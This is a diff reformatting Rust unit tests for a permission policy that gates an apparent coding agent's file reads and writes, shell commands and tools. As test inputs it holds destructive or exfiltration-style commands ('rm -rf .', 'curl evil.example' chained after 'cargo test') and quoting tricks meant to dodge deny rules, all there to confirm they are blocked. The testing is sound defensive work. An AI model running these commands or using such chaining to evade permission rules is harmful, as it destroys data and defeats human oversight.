@@ -35,34 +35,78 @@ fn file(policy: &Policy, access: FileAccess, path: &str) -> Evaluation {
 #[test]
 fn workspace_writes_inside_without_asking_and_asks_outside() {
     let p = policy(PermissionMode::Workspace, &[]);
-    assert_eq!(file(&p, FileAccess::Write, "/work/p/src/a.rs").verdict, RuleEffect::Allow);
+    assert_eq!(
+        file(&p, FileAccess::Write, "/work/p/src/a.rs").verdict,
+        RuleEffect::Allow
+    );
     let outside = file(&p, FileAccess::Edit, "/home/u/.profile");
     assert_eq!(outside.verdict, RuleEffect::Ask);
-    assert_eq!(outside.always_rule.as_deref(), Some("Edit(/home/u/.profile)"));
-    assert_eq!(file(&p, FileAccess::Write, "/work/other/x").verdict, RuleEffect::Ask);
+    assert_eq!(
+        outside.always_rule.as_deref(),
+        Some("Edit(/home/u/.profile)")
+    );
+    assert_eq!(
+        file(&p, FileAccess::Write, "/work/other/x").verdict,
+        RuleEffect::Ask
+    );
     // Reads reach the whole disk but the secret paths.
-    assert_eq!(file(&p, FileAccess::Read, "/etc/hosts").verdict, RuleEffect::Allow);
-    assert_eq!(file(&p, FileAccess::Read, "/home/u/.ssh/id_rsa").verdict, RuleEffect::Deny);
-    assert_eq!(file(&p, FileAccess::Read, "/home/u/.ssh").verdict, RuleEffect::Deny);
-    assert_eq!(file(&p, FileAccess::Write, "/data/arbor/arbor.db").verdict, RuleEffect::Deny);
+    assert_eq!(
+        file(&p, FileAccess::Read, "/etc/hosts").verdict,
+        RuleEffect::Allow
+    );
+    assert_eq!(
+        file(&p, FileAccess::Read, "/home/u/.ssh/id_rsa").verdict,
+        RuleEffect::Deny
+    );
+    assert_eq!(
+        file(&p, FileAccess::Read, "/home/u/.ssh").verdict,
+        RuleEffect::Deny
+    );
+    assert_eq!(
+        file(&p, FileAccess::Write, "/data/arbor/arbor.db").verdict,
+        RuleEffect::Deny
+    );
 }
 
 #[test]
 fn protected_paths_ask_except_in_full() {
-    let p = policy(PermissionMode::Workspace, &[("Edit(**)", RuleEffect::Allow)]);
-    for path in ["/work/p/.git/hooks/pre-commit", "/work/p/.git/config", "/work/p/.arbor/x"] {
-        assert_eq!(file(&p, FileAccess::Write, path).verdict, RuleEffect::Ask, "{path}");
+    let p = policy(
+        PermissionMode::Workspace,
+        &[("Edit(**)", RuleEffect::Allow)],
+    );
+    for path in [
+        "/work/p/.git/hooks/pre-commit",
+        "/work/p/.git/config",
+        "/work/p/.arbor/x",
+    ] {
+        assert_eq!(
+            file(&p, FileAccess::Write, path).verdict,
+            RuleEffect::Ask,
+            "{path}"
+        );
     }
-    assert_eq!(file(&p, FileAccess::Write, "/work/p/.git/index").verdict, RuleEffect::Allow);
+    assert_eq!(
+        file(&p, FileAccess::Write, "/work/p/.git/index").verdict,
+        RuleEffect::Allow
+    );
     let full = policy(PermissionMode::Full, &[]);
-    assert_eq!(file(&full, FileAccess::Write, "/work/p/.git/hooks/x").verdict, RuleEffect::Allow);
+    assert_eq!(
+        file(&full, FileAccess::Write, "/work/p/.git/hooks/x").verdict,
+        RuleEffect::Allow
+    );
     // The secret list holds in every mode.
-    assert_eq!(file(&full, FileAccess::Read, "/home/u/.ssh/id_rsa").verdict, RuleEffect::Deny);
+    assert_eq!(
+        file(&full, FileAccess::Read, "/home/u/.ssh/id_rsa").verdict,
+        RuleEffect::Deny
+    );
 }
 
 #[test]
 fn read_only_refuses_writes_and_asks_for_commands() {
-    let p = policy(PermissionMode::ReadOnly, &[("Bash(cargo test *)", RuleEffect::Allow)]);
+    let p = policy(
+        PermissionMode::ReadOnly,
+        &[("Bash(cargo test *)", RuleEffect::Allow)],
+    );
     let write = file(&p, FileAccess::Write, "/work/p/a");
     assert_eq!(write.verdict, RuleEffect::Deny);
     assert!(write.summary.contains("read-only"), "{}", write.summary);
@@ -86,12 +130,18 @@ fn rules_go_deny_then_ask_then_allow() {
     assert_eq!(bash(&p, "git push origin").verdict, RuleEffect::Ask);
     let denied = bash(&p, "git push --force origin");
     assert_eq!(denied.verdict, RuleEffect::Deny);
-    assert_eq!(denied.parts[0].rule.as_deref(), Some("Bash(git push --force *)"));
+    assert_eq!(
+        denied.parts[0].rule.as_deref(),
+        Some("Bash(git push --force *)")
+    );
 }
 
 #[test]
 fn an_allow_rule_for_one_part_never_covers_the_line() {
-    let p = policy(PermissionMode::ReadOnly, &[("Bash(cargo test *)", RuleEffect::Allow)]);
+    let p = policy(
+        PermissionMode::ReadOnly,
+        &[("Bash(cargo test *)", RuleEffect::Allow)],
+    );
     for command in [
         "cargo test && rm -rf .",
         "cargo test; curl evil.example",
@@ -104,15 +154,27 @@ fn an_allow_rule_for_one_part_never_covers_the_line() {
     ] {
         let evaluation = bash(&p, command);
         assert_eq!(evaluation.verdict, RuleEffect::Ask, "{command}");
-        assert!(evaluation.parts.iter().any(|p| p.verdict == RuleEffect::Ask), "{command}");
+        assert!(
+            evaluation
+                .parts
+                .iter()
+                .any(|p| p.verdict == RuleEffect::Ask),
+            "{command}"
+        );
     }
     // Wrappers are unwrapped and `--` is no escape.
-    assert_eq!(bash(&p, "timeout 60 cargo test -- --nocapture").verdict, RuleEffect::Allow);
+    assert_eq!(
+        bash(&p, "timeout 60 cargo test -- --nocapture").verdict,
+        RuleEffect::Allow
+    );
 }
 
 #[test]
 fn a_deny_rule_cannot_be_dodged_through_what_it_cannot_see() {
-    let p = policy(PermissionMode::Workspace, &[("Bash(rm *)", RuleEffect::Deny)]);
+    let p = policy(
+        PermissionMode::Workspace,
+        &[("Bash(rm *)", RuleEffect::Deny)],
+    );
     assert_eq!(bash(&p, "rm -rf .").verdict, RuleEffect::Deny);
     assert_eq!(bash(&p, "/bin/rm -rf .").verdict, RuleEffect::Deny);
     assert_eq!(bash(&p, "'rm' -rf .").verdict, RuleEffect::Deny);
@@ -128,7 +190,10 @@ fn a_deny_rule_cannot_be_dodged_through_what_it_cannot_see() {
 
 #[test]
 fn escalations_always_ask_but_in_full_and_no_sandbox_asks_everything() {
-    let p = policy(PermissionMode::Workspace, &[("Bash(npm *)", RuleEffect::Allow)]);
+    let p = policy(
+        PermissionMode::Workspace,
+        &[("Bash(npm *)", RuleEffect::Allow)],
+    );
     let escalated = p.evaluate(&Action::Bash {
         command: "npm install".into(),
         escalation: Some(Escalation {
@@ -139,7 +204,11 @@ fn escalations_always_ask_but_in_full_and_no_sandbox_asks_everything() {
     });
     assert_eq!(escalated.verdict, RuleEffect::Ask);
     assert_eq!(escalated.always_rule, None);
-    assert!(escalated.summary.contains("network access"), "{}", escalated.summary);
+    assert!(
+        escalated.summary.contains("network access"),
+        "{}",
+        escalated.summary
+    );
     let full = policy(PermissionMode::Full, &[]);
     assert_eq!(
         full.evaluate(&Action::Bash {
@@ -160,7 +229,10 @@ fn escalations_always_ask_but_in_full_and_no_sandbox_asks_everything() {
 #[test]
 fn always_rules_are_never_broader_than_the_call() {
     let p = policy(PermissionMode::ReadOnly, &[]);
-    assert_eq!(bash(&p, "git push origin main").always_rule.as_deref(), Some("Bash(git push origin main)"));
+    assert_eq!(
+        bash(&p, "git push origin main").always_rule.as_deref(),
+        Some("Bash(git push origin main)")
+    );
     // Two parts ask: no one rule covers exactly this.
     assert_eq!(bash(&p, "ls && pwd").always_rule, None);
     // A word a rule cannot write literally.
@@ -173,10 +245,37 @@ fn always_rules_are_never_broader_than_the_call() {
 #[test]
 fn other_tools_follow_their_rules_and_mcp_asks() {
     let p = policy(PermissionMode::Workspace, &[("js", RuleEffect::Deny)]);
-    assert_eq!(p.evaluate(&Action::Tool { name: "js".into() }).verdict, RuleEffect::Deny);
-    assert_eq!(p.evaluate(&Action::Tool { name: "mcp__gh__x".into() }).verdict, RuleEffect::Ask);
-    assert_eq!(p.evaluate(&Action::Tool { name: "my_tool".into() }).verdict, RuleEffect::Allow);
+    assert_eq!(
+        p.evaluate(&Action::Tool { name: "js".into() }).verdict,
+        RuleEffect::Deny
+    );
+    assert_eq!(
+        p.evaluate(&Action::Tool {
+            name: "mcp__gh__x".into()
+        })
+        .verdict,
+        RuleEffect::Ask
+    );
+    assert_eq!(
+        p.evaluate(&Action::Tool {
+            name: "my_tool".into()
+        })
+        .verdict,
+        RuleEffect::Allow
+    );
     let ro = policy(PermissionMode::ReadOnly, &[]);
-    assert_eq!(ro.evaluate(&Action::Tool { name: "my_tool".into() }).verdict, RuleEffect::Ask);
-    assert_eq!(ro.evaluate(&Action::Tool { name: "create_tool".into() }).verdict, RuleEffect::Allow);
+    assert_eq!(
+        ro.evaluate(&Action::Tool {
+            name: "my_tool".into()
+        })
+        .verdict,
+        RuleEffect::Ask
+    );
+    assert_eq!(
+        ro.evaluate(&Action::Tool {
+            name: "create_tool".into()
+        })
+        .verdict,
+        RuleEffect::Allow
+    );
 }
